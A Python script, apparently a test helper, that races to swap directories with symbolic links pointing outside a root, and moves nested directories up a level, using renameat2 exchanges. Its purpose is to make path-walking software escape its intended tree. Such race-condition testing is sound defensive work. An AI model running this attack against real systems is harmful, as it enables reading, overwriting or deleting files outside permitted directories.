"""A program that swaps directories and symbolic links as fast as it can, until it is ended.

``python attacker.py ROOT NAME...``, each NAME ``swap`` or ``deep``: in ROOT there is ``swap/deep``,
and beside each of the two a trap, a symbolic link that leads out. They change places, and ``deep``
moves up and down, so that ``..`` in it would lead somewhere else.

It goes by descriptors, or it would walk into its own traps.
"""

from __future__ import annotations

import contextlib
import ctypes
import itertools
import os
import sys
from collections.abc import Callable

RENAME_EXCHANGE = 2
AT_ONCE = 8  # so often for each time that nothing is there for a moment

_libc = ctypes.CDLL(None, use_errno=True)
_junk = itertools.count()


def exchange(fd: int, one: str, other: str) -> None:
    """Both change places at once; OSError where that cannot be done."""
    code = _libc.renameat2(fd, os.fsencode(one), fd, os.fsencode(other), RENAME_EXCHANGE)
    if code:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))


def rename(fd: int, name: str, to: str, to_fd: int | None = None) -> None:
    os.rename(name, to, src_dir_fd=fd, dst_dir_fd=fd if to_fd is None else to_fd)


def put_back(fd: int, aside: str, name: str) -> None:
    """Where somebody has made one meanwhile, that goes away for good."""
    while True:
        try:
            rename(fd, aside, name)
        except OSError:
            with contextlib.suppress(FileNotFoundError):  # he has removed it again
                rename(fd, name, f"junk{next(_junk)}")
        else:
            return


def swap_at_once(fd: int, name: str) -> None:
    """A link is there for a moment, and then the directory again."""
    exchange(fd, name, "trap")
    exchange(fd, name, "trap")


def swap_one_by_one(fd: int, name: str) -> None:
    """The same, with moments in which nothing is there."""
    rename(fd, name, "aside")
    with contextlib.suppress(OSError):
        os.symlink(os.readlink("trap", dir_fd=fd), name, dir_fd=fd)
        os.unlink(name, dir_fd=fd)
    put_back(fd, "aside", name)


def move_up(fd: int, name: str, root: int) -> None:
    """What was two levels down is one level down for a moment."""
    rename(fd, name, "moved", root)
    rename(root, "moved", "aside", fd)
    put_back(fd, "aside", name)


def attack(path: str, names: list[str]) -> None:
    """Go on for ever, once somebody says so."""
    root = os.open(path, os.O_RDONLY)
    swap = os.open("swap", os.O_RDONLY, dir_fd=root)
    acts: list[Callable[[], None]] = []
    if "swap" in names:
        acts += [lambda: swap_at_once(root, "swap")] * AT_ONCE
        acts += [lambda: swap_one_by_one(root, "swap")]
    if "deep" in names:
        acts += [lambda: swap_at_once(swap, "deep")] * AT_ONCE
        acts += [lambda: swap_one_by_one(swap, "deep"), lambda: move_up(swap, "deep", root)]
    print("ready", flush=True)
    sys.stdin.readline()
    for act in itertools.cycle(acts):
        act()


if __name__ == "__main__":
    attack(sys.argv[1], sys.argv[2:])
